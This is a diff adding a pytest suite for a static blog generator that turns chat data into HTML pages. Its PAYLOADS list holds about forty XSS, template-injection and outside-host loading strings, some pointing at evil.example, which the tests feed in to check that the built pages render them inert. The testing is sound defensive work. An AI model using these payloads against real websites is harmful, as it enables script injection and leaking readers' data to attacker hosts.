@@ -1,0 +1,582 @@
+"""The blog as HTML: what its pages show, and that nothing on them acts."""
+
+from __future__ import annotations
+
+import json
+from datetime import date, datetime
+from html.parser import HTMLParser
+from pathlib import Path
+from xml.etree import ElementTree as ET
+
+import ibis.expr.types as ir
+import pytest
+
+import site_fixture as invented
+from egregora import tables
+from egregora.errors import EgregoraError
+from egregora.site import charts
+from egregora.site.activity import answers, counted, every_of
+from egregora.site.build import build
+from egregora.site.cleaning import cleaned
+from egregora.site.covers import clock
+from egregora.site.numbers import calendars
+from egregora.site.sources import front_matter_of
+from egregora.site.topics import tags_of
+from egregora.site.words import SPOKEN, Words, days_of, language_of
+from egregora.storage import rows_of, table_of
+
+# Each sets window.pwned, or asks another host, if a page lets it.
+PAYLOADS = (
+    "<script>pwned=1</script>",
+    "<img src=x onerror=pwned=1>",
+    "<svg onload=pwned=1>",
+    "<svg><script>pwned=1</script></svg>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<iframe src=javascript:parent.pwned=1></iframe>",
+    "<a href='javascript:pwned=1'>x</a>",
+    "[x](javascript:pwned=1)",
+    "[x](JaVaScRiPt:pwned=1)",
+    "[x](data:text/html,<script>pwned=1</script>)",
+    "[x](vbscript:pwned)",
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    "![x](data:image/svg+xml,<svg onload=pwned=1>)",
+    "[x](//evil.example/)",
+    "<video src=https://evil.example/v.mp4 autoplay></video>",
+    "<details open ontoggle=pwned=1>x</details>",
+    "<body onload=pwned=1>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><button formaction=javascript:pwned=1>x",
+    "<object data=javascript:pwned=1></object>",
+    "<embed src=https://evil.example/x.swf>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
+    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
+    "</title><script>pwned=1</script>",
+    '"><script>pwned=1</script>',
+    "' onmouseover='pwned=1",
+    '<div id=__config>{"base":"https://evil.example"}</div>',
+    "<input autofocus onfocus=pwned=1>",
+    "<p style='background:url(https://evil.example/x)'>x</p>",
+    "<!--><script>pwned=1</script>-->",
+    "<![CDATA[<script>pwned=1</script>]]>",
+    "[x](http://[::1)",
+    "![x](http://[::1)",
+    "{{ 7 * 7 }}{% for x in (1,) %}pwned{% endfor %}{{ config.site_dir }}",
+    "&lt;script&gt;pwned=1&lt;/script&gt;",
+    "</script><script>pwned=1</script>",
+)
+THEME_IDS = {"__config", "__drawer", "__search", "__palette_0", "__toc"}
+ACTIVE = {"iframe", "object", "embed", "base", "style", "frame", "applet", "math"}
+
+
+class Elements(HTMLParser):
+    """The elements of a page and its text."""
+
+    def __init__(self, html: str):
+        super().__init__()
+        self.found: list[tuple[str, dict]] = []
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.text += data
+
+
+def pages_of(public):
+    return sorted(public.rglob("*.html"))
+
+
+def bytes_of(folder):
+    files = (path for path in sorted(folder.rglob("*")) if path.is_file())
+    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in files}
+
+
+@pytest.fixture(scope="session")
+def public(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("blog")
+    invented.write_sources(folder / "site")
+    build(invented.blog(), folder / "site", folder / "public")
+    return folder / "public"
+
+
+@pytest.fixture(scope="session")
+def hostile(tmp_path_factory):
+    """A blog in which every string that comes from the chat attacks the reader."""
+    folder = tmp_path_factory.mktemp("hostile")
+    write_hostile(folder / "site")
+    build(hostile_blog(), folder / "site", folder / "public")
+    return folder / "public"
+
+
+def hostile_rows(name, change):
+    rows = rows_of(invented.tables_of_blog()[name])
+    changed = [row | change(place) for place, row in enumerate(rows)]
+    return table_of(changed, tables.CONTRACTS[name])
+
+
+def attack(place):
+    return PAYLOADS[place % len(PAYLOADS)]
+
+
+def hostile_blog():
+    return invented.blog(
+        invented.tables_of_blog()
+        | {
+            "posts": hostile_rows(
+                "posts",
+                lambda n: {
+                    "title": "".join(PAYLOADS) if n == 0 else attack(n),
+                    "summary": "".join(PAYLOADS),
+                    "tags": list(PAYLOADS[n::8]),
+                },
+            ),
+            "members": hostile_rows("members", lambda n: {"alias": attack(n * 3)}),
+            "profiles": hostile_rows(
+                "profiles",
+                lambda n: {
+                    "bio": "".join(PAYLOADS),
+                    "website": "javascript:pwned=1"
+                    if n % 2
+                    else 'https://a.example/"x',
+                    "favourite_emoji": list(PAYLOADS[:5]),
+                },
+            ),
+            "enriched": hostile_rows("enriched", lambda n: {"media_note": attack(n)}),
+        },
+        title="".join(PAYLOADS),
+        description="".join(PAYLOADS),
+    )
+
+
+def write_hostile(site):
+    invented.write_sources(site)
+    for place, path in enumerate(
+        sorted([*site.glob("posts/*"), *site.glob("profiles/*")])
+    ):
+        text = "\n\n".join(PAYLOADS)
+        headings = "\n\n".join(f"## {one}" for one in PAYLOADS)
+        head = {
+            "title": attack(place),
+            "template": "404.html",
+            "hide": ["x"],
+            "icon": "../x",
+        }
+        invented.write_markdown(
+            path,
+            head,
+            f"{text}\n\n{headings}\n\n## __config\n\n> {text}\n",
+        )
+
+
+def test_a_blog_has_its_pages(public):
+    found = {path.relative_to(public).as_posix() for path in pages_of(public)}
+    assert found >= {
+        "index.html",
+        "404.html",
+        "archive/index.html",
+        "people/index.html",
+        "statistics/index.html",
+        "gallery/index.html",
+        "tags/index.html",
+        "tags/viagem/index.html",
+        "posts/2025-W03/index.html",
+        f"profiles/{invented.author_of(0)}/index.html",
+    }
+    assert {path.name for path in (public / "media").iterdir()} == {
+        f"m{number}.jpg" for number in range(5)
+    }
+
+
+def test_the_home_page_leads_with_the_latest_post_and_then_the_best(public):
+    text = Elements((public / "index.html").read_text()).text
+    latest, best = invented.TITLES[-1], invented.TITLES[5]
+    assert text.index(latest) < text.index(Words("pt")("top")) < text.index(best)
+    assert "Raposa Serena" in text
+
+
+def test_a_post_names_its_people_its_tags_and_its_neighbours(public):
+    page = Elements((public / "posts/2025-W03/index.html").read_text())
+    links = [given.get("href") for tag, given in page.found if tag == "a"]
+    assert {"../2025-W02/", "../2025-W04/", "../../tags/praia/"} <= set(links)
+    assert f"../../profiles/{invented.author_of(0)}/" in links
+    assert "1 min de leitura" in page.text
+    images = [given for tag, given in page.found if tag == "img"]
+    assert images[0]["src"] == "../../media/m2.jpg"
+    assert images[0]["alt"] == "A mesa posta no quintal"
+
+
+def test_a_quoted_turn_carries_its_speaker_in_their_colour(public):
+    html = (public / "posts/2025-W01/index.html").read_text()
+    tone = invented.blog().by_author[invented.author_of(0)].tone
+    assert (
+        f'<p class="turn-said"><strong class="who tone-{tone}">Raposa Serena</strong> '
+        "<small>sáb 18:45</small><br>Alguém viu a previsão? Vai chover.</p>" in html
+    )
+
+
+def test_two_builds_are_byte_identical_wherever_they_stand(
+    public, tmp_path, monkeypatch
+):
+    invented.write_sources(tmp_path / "elsewhere/site")
+    monkeypatch.chdir(tmp_path / "elsewhere")
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1")
+    build(invented.blog(), Path("site"), Path("public"))
+    assert bytes_of(Path("public")) == bytes_of(public)
+
+
+def test_pages_load_nothing_from_another_host_and_forbid_it(public):
+    for path in pages_of(public):
+        elements = Elements(path.read_text()).found
+        policy, referrer, robots = (
+            next(
+                given["content"]
+                for tag, given in elements
+                if tag == "meta"
+                and name in (given.get("http-equiv"), given.get("name"))
+            )
+            for name in ("Content-Security-Policy", "referrer", "robots")
+        )
+        assert "default-src 'self'" in policy
+        assert "unsafe" not in policy
+        assert referrer == "no-referrer"
+        assert "noindex" in robots
+        for tag, given in elements:
+            loads = given.get("src") or (given.get("href") if tag == "link" else None)
+            assert loads is None or "//" not in loads, (path, tag, loads)
+
+
+def test_pages_say_their_language(public):
+    for path in pages_of(public):
+        assert '<html lang="pt"' in path.read_text()
+
+
+def is_theme(given):
+    return (
+        str(given.get("src", "")).replace("../", "").startswith(("assets/", "/assets/"))
+    )
+
+
+def test_hostile_content_stays_text(hostile):
+    assert len(PAYLOADS) >= 20
+    for path in pages_of(hostile):
+        for tag, given in Elements(path.read_text()).found:
+            where = (path.name, tag, given)
+            assert tag not in ACTIVE, where
+            assert not [name for name in given if name.startswith("on")], where
+            assert "style" not in given, where
+            assert "srcdoc" not in given, where
+            if tag == "script":
+                assert is_theme(given) or given.get("type") == "application/json", where
+            if tag in ("img", "video", "audio", "source"):
+                assert "//" not in given.get("src", ""), where
+                assert not given.get("src", "").startswith("data:"), where
+            if tag == "link":
+                assert "evil" not in given.get("href", ""), where
+            if tag == "meta":
+                assert given.get("http-equiv") in (None, "Content-Security-Policy"), (
+                    where
+                )
+            for name in ("href", "action", "formaction", "data"):
+                scheme = (given.get(name) or "").partition(":")[0].strip().lower()
+                assert scheme not in ("javascript", "data", "vbscript"), where
+                assert not (given.get(name) or "").startswith("//"), where
+
+
+def test_what_was_typed_is_what_is_read(tmp_path):
+    invented.write_sources(tmp_path / "site")
+    typed = [one for one in PAYLOADS if one.startswith(("<", "{{"))]
+    post = tmp_path / "site/posts/2025-W02.md"
+    invented.write_markdown(post, {"title": "x"}, "\n\n".join(typed))
+    build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    html = (tmp_path / "public/posts/2025-W02/index.html").read_text()
+    text = Elements(html).text
+    for one in typed:
+        assert one in text
+
+
+def test_numbers_below_a_rule_are_drawn_instead(tmp_path):
+    invented.write_sources(tmp_path / "site")
+    person = tmp_path / f"site/profiles/{invented.author_of(0)}.md"
+    invented.write_markdown(person, {"title": "x"}, "Chega cedo.\n\n***\n\n- 3 posts\n")
+    build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    page = tmp_path / f"public/profiles/{invented.author_of(0)}/index.html"
+    text = Elements(page.read_text()).text
+    assert "Chega cedo." in text
+    assert "3 posts" not in text
+
+
+def test_no_id_of_the_theme_can_be_taken(hostile):
+    for path in pages_of(hostile):
+        ids = [
+            given["id"]
+            for _, given in Elements(path.read_text()).found
+            if "id" in given
+        ]
+        taken = [one for one in ids if one in THEME_IDS]
+        assert len(taken) == len(set(taken)), path
+
+
+def test_the_index_of_the_search_holds_no_markup_of_the_chat(hostile):
+    index = json.loads((hostile / "search/search_index.json").read_text())
+    assert index["docs"]
+    for entry in index["docs"]:
+        assert not Elements("".join([entry["title"], *entry.get("tags", [])])).found
+        for tag, given in Elements(entry["text"]).found:
+            assert tag in {"p", "ul", "ol", "li", "code", "pre", "table", "br"}, tag
+            assert not given
+
+
+def test_only_posts_and_people_are_searched(public):
+    index = json.loads((public / "search/search_index.json").read_text())
+    places = {entry["location"].partition("/")[0] for entry in index["docs"]}
+    assert places == {"posts", "profiles"}
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        (
+            '<a href="https://example.org/" target=_blank>x</a>',
+            '<a href="https://example.org/" rel="noopener noreferrer nofollow">x</a>',
+        ),
+        (
+            '<a href="//evil.example">x</a>',
+            '<a rel="noopener noreferrer nofollow">x</a>',
+        ),
+        (
+            '<a href="\\\\evil.example">x</a>',
+            '<a rel="noopener noreferrer nofollow">x</a>',
+        ),
+        (
+            '<img src="../../media/a.jpg" alt="a">',
+            '<img src="../../media/a.jpg" alt="a">',
+        ),
+        ('<img src="../../media/gone.jpg" alt="a">', '<img alt="a">'),
+        ('<img src="../../../media/a.jpg">', "<img>"),
+        ('<img src="/media/a.jpg">', "<img>"),
+        ('<h2 id="__config">x</h2>', "<h2>x</h2>"),
+        ('<h2 id="s-x">x</h2>', '<h2 id="s-x">x</h2>'),
+        ('<p class="md-search" id="s">x</p>', '<p class="">x</p>'),
+    ],
+)
+def test_content_is_cleaned_by_an_allow_list(html, expected):
+    assert cleaned(html, "posts/2025-W10/", {"media/a.jpg"}.__contains__) == expected
+
+
+def test_recordings_and_films_become_players(tmp_path):
+    invented.write_sources(tmp_path / "site")
+    for name in ("a.ogg", "b.mp4"):
+        (tmp_path / "site/media" / name).write_bytes(b"x")
+    post = tmp_path / "site/posts/2025-W02.md"
+    invented.write_markdown(
+        post, {"title": "x"}, "![Áudio](../media/a.ogg) ![F](../media/b.mp4)"
+    )
+    build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    found = dict(
+        Elements((tmp_path / "public/posts/2025-W02/index.html").read_text()).found
+    )
+    assert found["audio"]["src"] == "../../media/a.ogg"
+    assert found["audio"]["aria-label"] == "Áudio"
+    assert found["video"]["src"] == "../../media/b.mp4"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"# no front matter",
+        b"---\na: [1\n---\nx",
+        b"---\n- a\n---\nx",
+        b"\xff\xfe",
+        None,
+    ],
+    ids=["bare", "no yaml", "no mapping", "no utf-8", "missing"],
+)
+def test_a_post_that_cannot_be_read_is_named(tmp_path, content):
+    path = tmp_path / "2025-W02.md"
+    if content is not None:
+        path.write_bytes(content)
+    with pytest.raises(EgregoraError, match=r"2025-W02\.md: .*mend it") as caught:
+        front_matter_of(path)
+    assert "\n" not in str(caught.value)
+
+
+def test_a_post_that_mkdocs_refuses_is_named_and_the_old_pages_stay(tmp_path):
+    invented.write_sources(tmp_path / "site")
+    build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    before = bytes_of(tmp_path / "public")
+    nested = "1. " * 500 + "deep"
+    invented.write_markdown(tmp_path / "site/posts/2025-W05.md", {"title": "x"}, nested)
+    with pytest.raises(
+        EgregoraError, match=r"site/posts/2025-W05\.md: MkDocs refuses it"
+    ):
+        build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    assert bytes_of(tmp_path / "public") == before
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["public", "site"]
+
+
+def test_pages_replace_what_stood_there_and_what_a_killed_run_left(tmp_path):
+    invented.write_sources(tmp_path / "site")
+    (tmp_path / "public").mkdir()
+    (tmp_path / "public/stale.html").write_text("x")
+    (tmp_path / ".public.1.part/docs").mkdir(parents=True)
+    build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    assert not (tmp_path / "public/stale.html").exists()
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["public", "site"]
+
+
+def test_the_folder_of_the_sources_is_left_as_it_was(tmp_path):
+    invented.write_sources(tmp_path / "site")
+    before = bytes_of(tmp_path / "site")
+    build(invented.blog(), tmp_path / "site", tmp_path / "public")
+    assert bytes_of(tmp_path / "site") == before
+
+
+def test_an_empty_blog_has_a_front_page(tmp_path):
+    found = invented.tables_of_blog()
+    empty = {name: table_of([], tables.CONTRACTS[name]) for name in found}
+    build(invented.blog(empty), tmp_path / "site", tmp_path / "public")
+    text = Elements((tmp_path / "public/index.html").read_text()).text
+    assert Words("pt")("nothing") in text
+    assert not (tmp_path / "public/statistics").exists()
+
+
+def test_an_address_makes_feeds_and_none_makes_none(public, tmp_path):
+    invented.write_sources(tmp_path / "site")
+    blog = invented.blog(url="https://blog.example/pracinha")
+    build(blog, tmp_path / "site", tmp_path / "public")
+    channel = ET.parse(tmp_path / "public/feed.xml").getroot().find("channel")
+    items = channel.findall("item")
+    assert [item.findtext("title") for item in items] == list(invented.TITLES[::-1])
+    assert items[0].findtext("link") == "https://blog.example/pracinha/posts/2025-W08/"
+    assert items[0].findtext("pubDate") == "Sun, 23 Feb 2025 12:00:00 +0000"
+    feed = json.loads((tmp_path / "public/feed.json").read_text())
+    assert feed["version"] == "https://jsonfeed.org/version/1.1"
+    assert len(feed["items"]) == len(invented.TITLES)
+    assert 'href="feed.xml"' in (tmp_path / "public/index.html").read_text()
+    assert not (public / "feed.xml").exists()
+
+
+def test_counts_are_expressions_that_nothing_has_executed():
+    found = invented.tables_of_blog()
+    for name, table in counted(found["enriched"], found["media"], "week").items():
+        assert isinstance(table, ir.Table), name
+
+
+def said(*turns):
+    """Return `enriched` of (minute, author or None)."""
+    return table_of(
+        [
+            invented.message(place, datetime(2025, 3, 9, 12, minute), author, "x")
+            for place, (minute, author) in enumerate(turns)
+        ],
+        tables.ENRICHED,
+    )
+
+
+def test_an_answer_is_another_persons_message_soon_after():
+    table = said(
+        (0, "a"),
+        (1, "a"),  # goes on, answers nobody
+        (2, None),  # a notice comes between
+        (3, "b"),
+        (30, "a"),  # too late for an answer
+        (31, "b"),
+    )
+    assert rows_of(answers(table)) == [{"author": "b", "answered": "a", "times": 2}]
+
+
+def test_periods_tell_what_they_cover():
+    names = ("2025-03-09", "2025-W10", "2025-02")
+    assert [every_of(name) for name in names] == ["day", "week", "month"]
+    assert [days_of(name) for name in names] == [
+        (date(2025, 3, 9), date(2025, 3, 9)),
+        (date(2025, 3, 3), date(2025, 3, 9)),
+        (date(2025, 2, 1), date(2025, 2, 28)),
+    ]
+
+
+def test_every_language_says_everything():
+    english = SPOKEN["en"]
+    for language, spoken in SPOKEN.items():
+        assert set(spoken["words"]) == set(english["words"]), language
+        assert set(spoken["counts"]) == set(english["counts"]), language
+
+
+def test_unknown_languages_speak_english_and_known_ones_their_own():
+    assert Words("xx").count(1, "message") == "1 message"
+    assert Words("pt").count(1234, "message") == "1.234 mensagens"
+    assert Words("de").month(date(2025, 3, 1)) == "März"
+
+
+@pytest.mark.parametrize(
+    ("setting", "heads", "expected"),
+    [
+        ("es", [{"language": "pt"}], "es"),
+        ("auto", [{"language": "pt"}, {"language": "en"}, {"language": "pt"}], "pt"),
+        ("auto", [{"egregora": {"language": "fr"}}, {"language": 3}], "fr"),
+        ("auto", [{}], "pt"),  # from the text
+    ],
+)
+def test_the_language_is_set_or_told_or_seen(setting, heads, expected):
+    texts = ["Ninguém lembrou de levar o pão para o churrasco na praça."]
+    assert language_of(setting, heads, texts) == expected
+
+
+def test_topics_that_differ_in_case_are_one_and_others_never_collide():
+    found = tags_of(["Praia", "praia", "Pão", "pao", "🎉", "🎂", "C++", "c"])
+    assert found["Praia"] == found["praia"]
+    slugs = [tag.slug for tag in set(found.values())]
+    assert len(slugs) == len(set(slugs)) == 7
+    assert all(
+        slug and slug.replace("-", "").isalnum() and slug.isascii() for slug in slugs
+    )
+    # A topic's address does not change when an unrelated one appears.
+    assert tags_of(["praia"])["praia"].slug == tags_of(["praia", "🎉"])["praia"].slug
+
+
+def test_a_long_chat_gets_a_calendar_per_year():
+    short = {date(2024, 12, 30): 1, date(2025, 2, 1): 2}
+    long = {date(2023, 12, 30): 1, date(2025, 2, 1): 2}
+    assert list(calendars(short)) == ["2024–2025"]
+    assert list(calendars(long)) == ["2025", "2023"]
+
+
+def test_a_calendar_has_one_square_per_day_from_first_to_last():
+    days = {date(2025, 3, 5): 4, date(2025, 3, 12): 1}
+    drawn = ET.fromstring(str(charts.calendar(days, "x", Words("en"))))
+    squares = list(drawn.iter("rect"))
+    assert len(squares) == 8
+    assert squares[0].get("class") == "cell cell--5"
+    assert squares[0].findtext("title") == "Mar 5, 2025: 4 messages"
+
+
+def test_names_in_drawings_are_text():
+    people = [("a", "<script>pwned=1</script>", 0), ("b", '"&<', 1)]
+    drawn = str(charts.answer_web(people, {("a", "b"): 3}, "</svg><script>"))
+    root = ET.fromstring(drawn)
+    assert not list(root.iter("script"))
+    assert root.get("aria-label") == "</svg><script>"
+
+
+def test_a_clock_has_a_petal_per_hour_and_says_what_it_is():
+    drawn = ET.fromstring(str(clock([0] * 23 + [7], "Messages", hints=True)))
+    petals = list(drawn.iter("path"))
+    assert len(petals) == 24
+    assert petals[23].findtext("title") == "23:00 · 7"
+    assert drawn.get("role") == "img"
+    assert drawn.get("aria-label") == "Messages"
+
+
+def test_the_theme_files_that_the_policy_replaces_are_still_the_themes(public):
+    """The theme's inline scripts became files: its own must not have come back."""
+    html = (public / "index.html").read_text()
+    scripts = [given for tag, given in Elements(html).found if tag == "script"]
+    assert [one for one in scripts if "src" not in one] == [
+        {"id": "__config", "type": "application/json"}
+    ]
